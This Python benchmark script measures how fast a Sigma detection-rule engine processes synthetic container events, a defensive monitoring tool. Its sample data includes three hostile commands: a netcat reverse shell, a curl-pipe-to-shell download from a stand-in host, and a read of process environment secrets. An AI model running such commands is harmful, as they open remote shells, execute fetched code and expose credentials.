"""Sigma engine throughput over a realistic event mix.

Run: ``python bench/bench_rules.py [seconds] [sigma-rules-dir]``. Rules: coi-watch's
packs plus the SigmaHQ Linux rules (default: ``shared/sigmahq-linux/rules/linux`` beside the
repository, skipped when absent). Events: a deterministic mix shaped like an agent container at work
(per 100 events: 12 execs of everyday developer commands, with an occasional malicious one;
15 forks, 15 exits, 5 comm changes, 15 connections, 10 DNS queries, 20 file events,
8 conntrack flows), cycled through :meth:`RuleEngine.feed`.

Printed: events/s for the whole mix with the prefilter and without it (every rule of the
event's kind evaluated), then per event kind, and the verdict count as a sanity check.
The target is >= 100k events/s on one core.
"""

from __future__ import annotations

import random
import sys
import time
from collections.abc import Callable
from pathlib import Path

from coi_watch.events import (
    Ancestor,
    DnsQuery,
    Event,
    FileAccess,
    NetConnect,
    NetFlow,
    ProcComm,
    ProcExec,
    ProcExit,
    ProcFork,
)
from coi_watch.rules.engine import RuleEngine, RuleSet

__all__ = ("SIGMAHQ", "main", "make_events", "measure")

# The corpus lives in shared/ beside the repository (or /work/shared on the dev machines).
_NEAR = Path(__file__).resolve().parents[2] / "shared" / "sigmahq-linux" / "rules" / "linux"
_DEV = Path("/work/shared/sigmahq-linux/rules/linux")
SIGMAHQ = _NEAR if _NEAR.is_dir() else _DEV

_COMMANDS = [
    ("/usr/bin/git", ["git", "status", "--porcelain"]),
    ("/usr/bin/git", ["git", "commit", "-m", "fix: handle empty input"]),
    ("/usr/bin/python3.11", ["python3", "-m", "pytest", "-q", "tests/"]),
    ("/usr/bin/python3.11", ["python3", "setup.py", "build"]),
    ("/usr/bin/node", ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install"]),
    ("/bin/busybox", ["ls", "-la", "/workspace/src"]),
    ("/bin/busybox", ["cat", "README.md"]),
    ("/bin/busybox", ["grep", "-rn", "TODO", "src/"]),
    ("/usr/bin/bash", ["bash", "-c", "make -j8 all 2>&1 | tail -n 50"]),
    ("/usr/bin/gcc-12", ["gcc", "-O2", "-c", "main.c", "-o", "main.o"]),
    ("/usr/bin/cargo", ["cargo", "build", "--release"]),
    ("/usr/bin/rg", ["rg", "--json", "parse_event", "/workspace"]),
    ("/bin/busybox", ["sed", "-i", "s/foo/bar/g", "src/lib.rs"]),
    ("/usr/bin/curl", ["curl", "-sSfL", "https://pypi.org/simple/requests/"]),
    ("/usr/bin/go", ["go", "test", "./..."]),
]
_BAD = [
    ("/bin/busybox", ["nc", "-e", "/bin/sh", "198.18.0.1", "4444"]),
    ("/usr/bin/bash", ["bash", "-c", "curl -fsSL http://198.18.0.9/x.sh | sh"]),
    ("/bin/busybox", ["cat", "/proc/1/environ"]),
]
_PATHS = ["/workspace/src/main.rs", "/workspace/target/debug/deps/x.o", "/tmp/pytest-1/t.py",
          "/home/agent/.cache/pip/http/a/b", "/workspace/README.md", "/etc/ld.so.cache"]
_NAMES = ["pypi.org", "files.pythonhosted.org", "github.com", "registry.npmjs.org",
          "crates.io", "static.crates.io", "proxy.golang.org", "api.openai.com"]


def make_events(n: int = 10_000, seed: int = 7) -> list[Event]:
    """A deterministic event mix (see the module docstring)."""
    rnd = random.Random(seed)
    parent = (Ancestor(pid=10, comm="bash", exe="/usr/bin/bash", cmdline="bash -l"),
              Ancestor(pid=1, comm="init", exe="/sbin/init", cmdline="/sbin/init"))
    out: list[Event] = []
    base = dict(wall_ns=0, container="agent-1")
    for i in range(n):
        pid = 1000 + i
        ts = i * 1000
        r = rnd.randrange(100)
        ev: Event
        if r < 12:
            exe, argv = rnd.choice(_BAD if rnd.randrange(200) == 0 else _COMMANDS)
            ev = ProcExec(ts_ns=ts, pid=pid, ppid=10, uid=1_000_000, comm=argv[0][:15],
                          exe=exe, argv=tuple(argv), cwd="/workspace", ancestry=parent, **base)
        elif r < 27:
            ev = ProcFork(ts_ns=ts, pid=pid, ppid=10, **base)
        elif r < 42:
            ev = ProcExit(ts_ns=ts, pid=pid, **base)
        elif r < 47:
            ev = ProcComm(ts_ns=ts, pid=pid, comm="ls", **base)
        elif r < 62:
            ev = NetConnect(ts_ns=ts, family=4, proto="tcp", src="10.100.0.5",
                            sport=40000 + i % 20000,
                            dst=f"151.101.{i % 250}.{rnd.randrange(250)}", dport=443, **base)
        elif r < 72:
            ev = DnsQuery(ts_ns=ts, family=4, proto="udp", src="10.100.0.5", dst="10.100.0.1",
                          qname=rnd.choice(_NAMES), **base)
        elif r < 92:
            ev = FileAccess(ts_ns=ts, pid=pid, op=rnd.choice(["open", "close_write", "modify",
                                                              "close_nowrite"]),
                            path=rnd.choice(_PATHS), comm="python3", **base)
        else:
            ev = NetFlow(ts_ns=ts, event="update", family=4, proto="tcp", src="10.100.0.5",
                         dst="151.101.1.1", dport=443, bytes_out=i * 10, **base)
        out.append(ev)
    return out


def measure(feed: Callable[[Event, int], object], events: list[Event], seconds: float
            ) -> tuple[float, int]:
    """Events per second feeding ``events`` (cycled) for about ``seconds``; verdicts seen."""
    done = 0
    verdicts = 0
    start = time.perf_counter()
    deadline = start + seconds
    while True:
        for ev in events:
            out = feed(ev, ev.ts_ns)
            if out:
                verdicts += len(out)  # type: ignore[arg-type]
        done += len(events)
        if time.perf_counter() >= deadline:
            break
    return done / (time.perf_counter() - start), verdicts


def main(argv: list[str] | None = None) -> None:
    args = sys.argv[1:] if argv is None else argv
    seconds = float(args[0]) if args else 2.0
    sigma = Path(args[1]) if len(args) > 1 else SIGMAHQ
    paths = [sigma] if sigma.exists() else []
    t0 = time.perf_counter()
    fast = RuleSet.load(paths)
    load_s = time.perf_counter() - t0
    slow = RuleSet.load(paths, prefilter=False)
    print(f"rules: {len(fast.rules)} loaded ({len(fast.errors)} not loadable) from "
          f"{len(fast.files)} files in {load_s:.2f}s")
    events = make_events()
    for label, rs in (("prefilter", fast), ("no prefilter", slow)):
        eng = RuleEngine(ruleset=rs)
        once = sum(len(eng.feed(ev, ev.ts_ns)) for ev in events)
        rate, _ = measure(eng.feed, events, seconds)
        print(f"mix, {label:<12}: {rate:>10,.0f} events/s  ({once} verdicts per "
              f"{len(events)} events)")
    eng = RuleEngine(ruleset=fast)
    kinds = sorted({ev.kind for ev in events})
    for kind in kinds:
        subset = [ev for ev in events if ev.kind == kind]
        rate, _ = measure(eng.feed, subset, seconds / 4)
        print(f"  {kind:<12} {rate:>10,.0f} events/s")


if __name__ == "__main__":
    main()
